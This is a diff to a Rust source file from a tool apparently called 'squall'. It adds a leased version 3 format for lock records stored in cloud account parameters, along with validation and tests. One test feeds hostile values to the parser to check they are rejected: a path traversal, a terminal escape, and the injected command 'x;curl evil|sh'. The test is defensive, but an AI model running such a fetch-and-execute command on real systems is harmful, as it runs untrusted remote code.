@@ -1,4 +1,4 @@
-//! The text of a lock, as it lies in an account: version 2, and version 1 of squall 0.1.0.
+//! The text of a lock, as it lies in an account: version 3; version 2, which had no lease; and version 1 of squall 0.1.0.
 //!
 //! Invariant: this is text from outside. Anybody who may write parameters in the account can write one, so nothing in it
 //! is believed that no lock of squall would say: it can make squall put back what a run of its catalogue could have
@@ -9,13 +9,18 @@ use serde::{Deserialize, Serialize};
 use super::{LOCK_LIMIT, Lock, LockedChange, LockedSends, NotALock};
 use crate::account::setting::every_setting;
 use crate::account::{AccountIdentity, Location, Region, Resource, ResourceKind, Setting, Value};
+use crate::clock::RENEWED_WITHIN;
 use crate::ids::RunId;
 use crate::outside::plain;
 use crate::plan::Cleanup;
 use crate::units::{Span, Time};
 
 /// The version that is written.
-pub const VERSION: u32 = 2;
+pub const VERSION: u32 = 3;
+/// The version before leases, otherwise the same.
+const WITHOUT_LEASE: u32 = 2;
+/// Shortest and longest lease that a lock may have.
+const LEASES: (Span, Span) = (RENEWED_WITHIN, Span::from_mins(60));
 /// No run sends more messages to one queue than this.
 const MOST_MESSAGES: u32 = 10_000;
 /// Longest title and longest name of a person at a machine.
@@ -27,7 +32,7 @@ struct Versioned {
     squall: u32,
 }
 
-/// Version 2: the locked resource is said once, and changes are on nothing else.
+/// Versions 2 and 3: the locked resource is said once, and changes are on nothing else.
 #[derive(Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 struct Written {
@@ -37,6 +42,8 @@ struct Written {
     by: String,
     made_at: Time,
     latest_end: Time,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    lease_seconds: Option<u32>,
     account: AccountIdentity,
     region: Region,
     kind: ResourceKind,
@@ -160,12 +167,13 @@ pub fn write(lock: &Lock, resource: &Resource) -> String {
         Cleanup::LeaveInQueue => None,
     };
     let written = Written {
-        squall: VERSION,
+        squall: if lock.lease.is_some() { VERSION } else { WITHOUT_LEASE },
         run: lock.run.clone(),
         title: lock.title.clone(),
         by: lock.by.clone(),
         made_at: lock.made_at,
         latest_end: lock.latest_end,
+        lease_seconds: lock.lease.map(|lease| u32::try_from(lease.millis() / 1000).unwrap_or(u32::MAX)),
         account: resource.location.account.clone(),
         region: resource.location.region.clone(),
         kind: resource.kind,
@@ -192,7 +200,7 @@ pub fn read(resource: &Resource, text: &str) -> Result<Lock, NotALock> {
     let version: Versioned = serde_json::from_str(text).or_else(|_| version_of(text)).map_err(&wrong)?;
     let lock = match version.squall {
         1 => first(resource, text),
-        VERSION => second(resource, text),
+        WITHOUT_LEASE | VERSION => second(resource, text),
         newer => {
             Err(format!("it has format {newer}, and this squall reads 1 to {VERSION}; use the squall that wrote it"))
         }
@@ -222,6 +230,11 @@ fn second(resource: &Resource, text: &str) -> Result<Lock, String> {
             location.account, resource.location
         ));
     }
+    let lease = written.lease_seconds.map(|seconds| Span::from_secs(i64::from(seconds)));
+    if lease.is_some() != (written.squall == VERSION) || lease.is_some_and(|lease| lease < LEASES.0 || LEASES.1 < lease)
+    {
+        return Err("it has no lease that squall gives".into());
+    }
     let sends = written.sends.into_iter().map(|sends| {
         let cleanup = match sends.sweep {
             None => Cleanup::LeaveInQueue,
@@ -245,6 +258,7 @@ fn second(resource: &Resource, text: &str) -> Result<Lock, String> {
         by: written.by,
         made_at: written.made_at,
         latest_end: written.latest_end,
+        lease,
         sends: sends.collect(),
         changes: written.changes.into_iter().map(change).collect(),
     })
@@ -282,6 +296,7 @@ fn first(resource: &Resource, text: &str) -> Result<Lock, String> {
         by: first.by,
         made_at: first.made_at,
         latest_end: first.latest_end,
+        lease: None,
         sends: sends.collect(),
         changes,
     })
@@ -353,6 +368,7 @@ mod tests {
             by: "ana@laptop".into(),
             made_at: "2026-03-02T09:00:00Z".parse().unwrap(),
             latest_end: "2026-03-02T10:00:00Z".parse().unwrap(),
+            lease: Some(Span::from_mins(3)),
             changes: vec![LockedChange { setting, before, after, whole_before: None }],
             sends: Vec::new(),
         }
@@ -416,7 +432,11 @@ mod tests {
         for run in ["../../../pwned", "x;curl evil|sh", "\u{1b}[2J", ""] {
             assert!(forged(&|json| json["run"] = json!(run), &throttled(), &pay).is_err(), "{run}");
         }
-        assert!(forged(&|json| json["squall"] = json!(3), &throttled(), &pay).unwrap_err().contains("format 3"));
+        assert!(forged(&|json| json["squall"] = json!(4), &throttled(), &pay).unwrap_err().contains("format 4"));
+        assert!(forged(&|json| json["squall"] = json!(2), &throttled(), &pay).is_err(), "no lease in version 2");
+        for lease in [json!(null), json!(1), json!(u32::MAX)] {
+            assert!(forged(&|json| json["lease_seconds"] = lease.clone(), &throttled(), &pay).is_err(), "{lease}");
+        }
         assert!(forged(&|json| json["more"] = json!(1), &throttled(), &pay).is_err());
         assert!(forged(&|json| json["title"] = json!("x".repeat(500)), &throttled(), &pay).is_err());
         assert!(forged(&|json| json["latest_end"] = json!("2020-01-01T00:00:00Z"), &throttled(), &pay).is_err());
@@ -439,6 +459,15 @@ mod tests {
             let lock = variables(prefix, before);
             assert!(read(&function(), &write(&lock, &function())).is_err(), "{prefix} {before}");
         }
+    }
+
+    /// As it was written before leases: its owner gives no sign of life.
+    #[test]
+    fn a_mark_of_the_second_version_has_no_lease() {
+        let text = r#"{"squall":2,"run":"run-1","title":"t","by":"ana@laptop","made_at":"2026-03-02T09:00:00Z","latest_end":"2026-03-02T10:00:00Z","account":"aws:111122223333","region":"eu-west-1","kind":"function","name":"pay","changes":[{"setting":{"kind":"reserved_concurrency"},"before":{"kind":"unset"},"after":{"kind":"number","number":0}}]}"#;
+        let lock = read(&function(), text).unwrap();
+        assert_eq!((lock.lease, lock.changes.len()), (None, 1));
+        assert_eq!(read(&function(), &write(&lock, &function())), Ok(lock));
     }
 
     /// As squall 0.1.0 wrote it: the nickname is nobody's business, the account that it lies in counts.
